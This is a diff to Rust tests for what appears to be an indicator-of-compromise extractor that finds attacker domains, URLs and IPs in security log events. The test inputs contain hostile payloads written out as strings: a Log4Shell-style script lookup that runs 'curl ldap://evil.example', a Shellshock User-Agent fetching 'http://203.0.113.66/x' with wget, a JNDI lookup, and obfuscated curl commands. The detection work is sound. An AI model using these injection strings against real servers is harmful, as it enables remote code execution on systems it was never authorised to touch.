@@ -165,10 +165,15 @@ fn quotation_marks_hide_no_payload() {
         let line = json!({"http": {"user_agent": look_up, "referer": "https://shop.test-org.com"}}).to_string();
         expect(&json!({"full_log": line}), &evil);
     }
-    let script = "\"${script:javascript:java.lang.Runtime.getRuntime().exec([\"sh\",\"-c\",\"curl ldap://evil.example/a\"])}\"";
+    let script =
+        "\"${script:javascript:java.lang.Runtime.getRuntime().exec([\"sh\",\"-c\",\"curl ldap://evil.example/a\"])}\"";
     expect(&json!({"data": {"msg": format!("ua={script}")}}), &evil);
-    expect(&json!({"full_log": format!("app: disk 5\" sent {}", &script[1..])}), &evil);
-    let printable = "GET / HTTP/1.1\r\nIf-None-Match: \"\r\nUser-Agent: () { :; }; echo \"a\" ; wget http://203.0.113.66/x";
+    expect(
+        &json!({"full_log": format!("app: disk 5\" sent {}", &script[1..])}),
+        &evil,
+    );
+    let printable =
+        "GET / HTTP/1.1\r\nIf-None-Match: \"\r\nUser-Agent: () { :; }; echo \"a\" ; wget http://203.0.113.66/x";
     expect(
         &json!({"data": {"payload_printable": printable}}),
         &[("ip-dst", "203.0.113.66"), ("url", "http://203.0.113.66/x")],
@@ -205,16 +210,50 @@ fn addresses_are_found_in_payloads_that_name_no_scheme() {
 }
 
 #[test]
-fn an_apostrophe_hides_no_host() {
-    let to = [
-        ("ip-dst", "203.0.113.66"),
-        ("url", "http://www.bank.example%27.x@203.0.113.66/a"),
-    ];
-    let url = "http://www.bank.example'.x@203.0.113.66/a";
-    expect(&json!({"data": {"url": url}}), &to);
+fn where_two_hosts_may_be_meant_both_are_indicators() {
+    let command = |line: &str| json!({"data": {"win": {"eventdata": {"commandLine": line}}}});
+    let (evil, url) = (("domain", "evil.example"), ("url", "http://evil.example/"));
+    let bank = ("domain", "bank.example");
+    for line in [
+        "x={'http://evil.example':'a@bank.example'}",
+        "open('http://evil.example'.'a@bank.example')",
+        "curl http://evil.example'--a@bank.example",
+    ] {
+        expect(&command(line), &[evil, url, bank]);
+    }
     expect(
-        &json!({"data": {"win": {"eventdata": {"commandLine": format!("curl {url}")}}}}),
-        &to,
+        &command("curl http://evil.example'';x=a@bank.example"),
+        &[evil, url, bank],
     );
-    expect(&json!({"data": {"url": format!("/?to={url}")}}), &to);
+    for asked in [
+        "/?x=http://evil.example'--a@bank.example",
+        "/?x=http%3A%2F%2Fevil.example%27--a%40bank.example",
+    ] {
+        expect(&json!({"data": {"url": asked}}), &[evil, url, bank]);
+    }
+    let iocs =
+        super::indicators_of(&json!({"data": {"user_agent": "${jndi:ldap://evil.example'';x=a@bank.example/a}"}}));
+    for (kind, value) in [evil, bank] {
+        assert!(iocs.contains(&(kind, value.to_owned())), "{iocs:?}");
+    }
+    let url = "http://www.bank.example'.x@203.0.113.66/a";
+    for value in [
+        json!({"data": {"url": url}}),
+        command(&format!("curl {url}")),
+        json!({"data": {"url": format!("/?to={url}")}}),
+    ] {
+        expect(
+            &value,
+            &[
+                ("domain", "www.bank.example"),
+                ("url", "http://www.bank.example/"),
+                ("ip-dst", "203.0.113.66"),
+            ],
+        );
+    }
+    // A name and its password are no host.
+    expect(
+        &command("curl http://user:pw@evil.example"),
+        &[evil, ("url", "http://user:pw@evil.example/")],
+    );
 }
